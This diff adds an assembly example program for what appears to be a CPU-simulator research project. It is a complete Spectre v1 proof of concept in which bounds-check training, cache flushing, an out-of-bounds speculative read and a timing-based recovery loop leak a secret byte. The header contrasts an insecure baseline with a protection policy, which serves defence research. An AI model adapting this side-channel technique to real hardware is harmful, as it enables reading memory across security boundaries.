@@ -1,0 +1,68 @@
+# spectre_v1.s — a fully self-contained Spectre v1 proof-of-concept
+# (paper Listing 1): bounds-check bypass, D-cache covert channel, and an
+# in-assembly recover phase that leaves the recovered byte in a0.
+#
+#   go run ./cmd/ndasim -regs examples/programs/spectre_v1.s
+#       -> a0 = 42 (the secret leaks on the insecure baseline)
+#   go run ./cmd/ndasim -regs -policy FullProtection examples/programs/spectre_v1.s
+#       -> a0 = 0 and a1 (margin) ~ 0: the series is flat, nothing leaked
+        .data
+        .org 0x100000
+size:   .word64 16
+        .align 64
+array:  .space 48
+secret: .byte 42             # out of bounds, same line as array
+        .org 0x200000
+probe:  .space 131072        # 256 x 512B probe entries
+        .text
+# --- train the bounds check: 16 in-bounds calls ---
+main:   li   s1, 16
+train:  li   a0, 0
+        call victim
+        addi s1, s1, -1
+        bne  s1, zero, train
+# --- prime: flush every probe entry ---
+        li   s1, 0
+        la   s2, probe
+prime:  clflush (s2)
+        addi s2, s2, 512
+        addi s1, s1, 1
+        slti s3, s1, 256
+        bne  s3, zero, prime
+# --- attack: flushed bounds + out-of-bounds index ---
+        la   s2, size
+        clflush (s2)
+        li   a0, 48
+        call victim
+# --- recover: time each probe entry, track the fastest (argmin) ---
+        li   s10, 0          # guess
+        la   s11, probe
+        li   a0, 0           # best guess
+        li   s9, 1000000     # best time
+recov:  rdcycle s8
+        xor  s7, s8, s8
+        add  s7, s7, s11
+        lbu  s7, (s7)
+        rdcycle s6
+        sub  s6, s6, s8      # measured cycles for this guess
+        bge  s6, s9, slower
+        mv   s9, s6          # new fastest
+        mv   a0, s10
+slower: addi s11, s11, 512
+        addi s10, s10, 1
+        slti s7, s10, 256
+        bne  s7, zero, recov
+        halt
+
+# victim(a0 = x): if (x < size) { t = probe[array[x] * 512]; }
+victim: la   t0, size
+        ld   t1, (t0)
+        bge  a0, t1, vend
+        la   t2, array
+        add  t2, t2, a0
+        lbu  t3, (t2)
+        slli t3, t3, 9
+        la   t4, probe
+        add  t4, t4, t3
+        lbu  t5, (t4)
+vend:   ret
